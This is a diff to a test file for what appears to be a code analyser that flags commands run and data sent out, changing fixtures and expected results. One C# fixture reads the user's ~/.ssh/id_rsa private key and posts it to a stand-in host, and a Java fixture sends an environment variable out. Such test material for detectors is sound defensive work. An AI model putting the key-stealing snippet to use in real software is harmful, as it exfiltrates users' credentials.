@@ -72,7 +72,7 @@ test("a script under such a name is read as what it is, too", async () => {
 });
 
 test("many calls and strings are bounded", async () => {
-  const { facts } = await read("a.lua", 'os.execute("uname")\n'.repeat(20_000));
+  const { facts } = await read("a.nim", 'execCmd("uname")\n'.repeat(20_000));
   expect(operations(facts)).toHaveLength(200);
 });
 
@@ -84,13 +84,13 @@ test.each([
   ],
   [
     "B.cs",
-    'var kept = await File.ReadAllTextAsync(Path.Combine(home, ".ssh", "id_rsa"));\nawait http.PostAsync("https://a.example/x", new StringContent(kept));\n',
+    'var home = Environment.GetFolderPath(Environment.SpecialFolder.UserProfile);\nvar kept = await File.ReadAllTextAsync(Path.Combine(home, ".ssh", "id_rsa"));\nawait http.PostAsync("https://a.example/x", new StringContent(kept));\n',
     "~/.ssh/id_rsa",
   ],
   [
     "D.java",
     'String kept = Files.readString(Path.of("notes.txt"));\nString mode = System.getenv("MODE");\nclient.send(r.POST(HttpRequest.BodyPublishers.ofString(mode)).build(), "https://a.example/x");\n',
-    "",
+    "*",
   ],
 ])("what is sent in %s, by the names that hold it", async (path, text, wanted) => {
   const { facts } = await read(path, text);
